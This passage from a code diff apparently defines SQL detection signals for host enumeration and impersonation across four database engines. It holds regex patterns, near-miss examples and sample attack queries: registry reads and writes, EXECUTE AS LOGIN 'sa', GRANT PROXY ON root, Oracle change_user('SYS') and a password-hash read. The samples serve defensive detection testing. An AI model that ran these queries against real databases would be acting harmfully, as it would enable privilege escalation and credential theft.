+            "SELECT name, type_desc FROM sys.server_principals",
+            "SELECT Id, PasswordHash FROM dbo.AspNetUsers WHERE UserName = @p0",
+        ),
+    },
+)
+
+_HOST_ENUMERATION = Signal(
+    "host-enumeration",
+    "The host, its registry, its accounts or its network are explored.",
+    (
+        _calls(_PG, "inet_server_addr", "inet_server_port", "pg_config"),
+        Pattern(_PG, ("pg_hba_file_rules",), rf"{_READ_FROM}(?:pg_catalog\.)?pg_hba_file_rules\b"),
+        Pattern(
+            _PG,
+            _words("data_directory hba_file config_file ident_file"),
+            rf"(?:\A|;)show (?:data_directory|hba_file|config_file|ident_file)\b",
+        ),
+        Pattern(
+            _MYSQL,
+            _words("plugin_dir secure_file_priv datadir basedir version_compile_os version_compile_machine"),
+            r"@@(?:global\.|session\.)?(?:plugin_dir|secure_file_priv|datadir|basedir|version_compile_(?:os|machine))\b",
+        ),
+        Pattern(
+            _MYSQL,
+            ("show",),
+            r"(?:\A|;)show (?:global |session )?variables (?:like \?|where )",
+            r"plugin_dir|secure_file_priv",
+        ),
+        _packages("utl_inaddr"),
+        Pattern(_ORACLE, ("dbms_utility",), r"\bdbms_utility\.port_string\b"),
+        _procedures(
+            *(
+                f"xp_{instance}reg{act}"
+                for instance in ("", "instance_")
+                for act in _words(
+                    "read write enumvalues enumkeys deletekey deletevalue addmultistring removemultistring"
+                )
+            ),
+            *_words("xp_enumgroups xp_logininfo xp_msver xp_loginconfig xp_getnetname xp_enumdsn sp_enumdsn"),
+            *_words("xp_enumerrorlogs xp_ntsec_enumdomains xp_availablemedia xp_fixeddrives xp_enum_oledb_providers"),
+            *_words("xp_grantlogin xp_get_tape_devices sp_enumoledbdatasources"),
+        ),
+        Pattern(
+            _SQLSERVER,
+            _words("dm_os_host_info dm_server_registry dm_server_services dm_os_windows_info dm_tcp_listener_states"),
+            r"\bfrom (?:sys\.)?(?:dm_server_registry|dm_tcp_listener_states|dm_os_windows_info|dm_os_host_info|dm_server_services)\b",
+        ),
+        Pattern(_SQLSERVER, ("default_domain",), r"\bdefault_domain\("),
+        Pattern(
+            _SQLSERVER,
+            ("suser_sname", "suser_sid"),
+            r"\bsuser_s(?:name|id)\(",
+            r"suser_sname\s{0,9}\(\s{0,9}0x[0-9a-f]{20}|suser_sid\s{0,9}\([^)]{0,100}\\",
+        ),
+    ),
+    samples={
+        "postgresql": (
+            "SELECT inet_server_addr(), inet_server_port()",
+            "SELECT * FROM pg_hba_file_rules",
+            "SHOW data_directory",
+        ),
+        "mysql": (
+            "SELECT @@plugin_dir",
+            "SELECT @@global.secure_file_priv, @@version_compile_os",
+            "SHOW VARIABLES LIKE 'plugin_dir'",
+        ),
+        "oracle": (
+            "SELECT UTL_INADDR.GET_HOST_ADDRESS('db1') FROM dual",
+            "BEGIN x := sys.utl_inaddr.get_host_name; END;",
+        ),
+        "sqlserver": (
+            "EXEC master..xp_instance_regread N'HKEY_LOCAL_MACHINE', N'SOFTWARE\\x', N'y'",
+            "EXEC master..xp_enumgroups",
+            "exec master.dbo.xp_regwrite 'HKEY_LOCAL_MACHINE', 'a', 'b', 'REG_SZ', 'c'",
+            "SELECT SUSER_SNAME(0x010500000000000515000000A065CF7E784B9B5FE77C87705D020000)",
+            "SELECT * FROM sys.dm_server_registry",
+            "SELECT DEFAULT_DOMAIN()",
+        ),
+    },
+    near_misses={
+        "postgresql": ("SELECT version()", "SELECT inet_client_addr()", "SHOW server_version"),
+        "mysql": (
+            "SELECT @@version_comment LIMIT 1",
+            "SHOW VARIABLES LIKE 'version'",
+            "SELECT @@session.transaction_isolation",
+        ),
+        "oracle": ("SELECT sys_context('userenv', 'ip_address') FROM dual", "GRANT EXECUTE ON utl_inaddr TO app"),
+        "sqlserver": (
+            "SELECT SUSER_SNAME(0x01)",
+            "SELECT SERVERPROPERTY('MachineName')",
+            "SELECT name FROM sys.objects WHERE name = 'xp_regread'",
+        ),
+    },
+)
+
+_IMPERSONATION = Signal(
+    "impersonation",
+    "A session takes on the rights of another account.",
+    (
+        Pattern(
+            _PG,
+            ("role", "authorization"),
+            r"(?:\A|;|\b(?:begin|then|else|loop) ?)set (?:local |session )?"
+            r"(?:role(?: to |=| )(?!none\b|default\b)|session authorization (?!default\b))",
+        ),
+        Pattern(_PG, ("set_config",), r"\bset_config\(", r"set_config\s{0,9}\(\s{0,9}'(?:role|session_authorization)'"),
+        Pattern(_MYSQL, ("proxy",), r"\bgrant proxy on\b"),
+        Pattern(_ORACLE, ("through",), r"\balter user\b[^;]{1,300}\bgrant connect through\b"),
+        Pattern(
+            _ORACLE,
+            _words("dbms_sys_sql kupp$proc dbms_ijob dbms_isched"),
+            r"(?<![\w$#])(?:dbms_sys_sql\.parse_as_user|kupp\$proc\.change_user|dbms_ijob\.|dbms_isched\.)",
+        ),
+        Pattern(_SQLSERVER, ("login", "user"), r"\bexec(?:ute)? as (?:login|user)=|\)as (?:login|user)="),
+        Pattern(_SQLSERVER, ("as",), rf"\bwith [\w, ]{{0,60}}exec(?:ute)? as \?"),
+        Pattern(_SQLSERVER, ("setuser",), r"\bsetuser ?[?@\w]"),
+    ),
+    samples={
+        "postgresql": (
+            "SET ROLE store_owner",
+            "SET LOCAL ROLE TO 'admin'",
+            "SET SESSION AUTHORIZATION postgres",
+            "SELECT set_config('role', 'rds_superuser', false)",
+        ),
+        "mysql": (
+            "GRANT PROXY ON 'root'@'%' TO 'app'@'%'",
+            "grant proxy on 'admin'@'localhost' to ''@''",
+        ),
+        "oracle": (
+            "ALTER USER ledger GRANT CONNECT THROUGH app",
+            "BEGIN sys.kupp$proc.change_user('SYS'); END;",
+            "BEGIN x := sys.dbms_sys_sql.parse_as_user(c, 'grant dba to app', 1, 0); END;",
+        ),
+        "sqlserver": (
+            "EXECUTE AS LOGIN = 'sa'; SELECT SYSTEM_USER",
+            "exec as user = N'dbo'",
+            "EXEC ('select 1') AS LOGIN = 'sa'",
+            "CREATE PROCEDURE p WITH EXECUTE AS 'dbo' AS SELECT 1",
+            "SETUSER 'dbo'",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "SET ROLE NONE",
+            "RESET ROLE",
+            "UPDATE users SET role = 'admin' WHERE id = 4",
+            "SET search_path = app",
+        ),
+        "mysql": ("SET ROLE ALL", "SET ROLE reporting", "GRANT SELECT ON s.* TO 'a'@'%'"),
+        "oracle": ("SET ROLE reporting", "ALTER SESSION SET CURRENT_SCHEMA = ledger", "ALTER USER a QUOTA 5M ON u"),
+        "sqlserver": (
+            "REVERT",
+            "CREATE PROCEDURE p WITH EXECUTE AS CALLER AS SELECT 1",
+            "GRANT IMPERSONATE ON LOGIN::sa TO app",
+            "SELECT a AS login FROM t WHERE b = 4",
+        ),
+    },
+)
+
+ACCESS: tuple[Signal, ...] = (
+    _NETWORK_CALL,
+    _LINKED_READ,
+    _SERVER_FILE,
+    _PROGRAM_EXECUTION,
+    _EXPORT,
+    _IMPORT,
+    _DUMP_QUERY,
+    _ROW_AGGREGATION,
+    _CATALOG_READ,
+    _CREDENTIAL_READ,
+    _HOST_ENUMERATION,
+    _IMPERSONATION,
+)
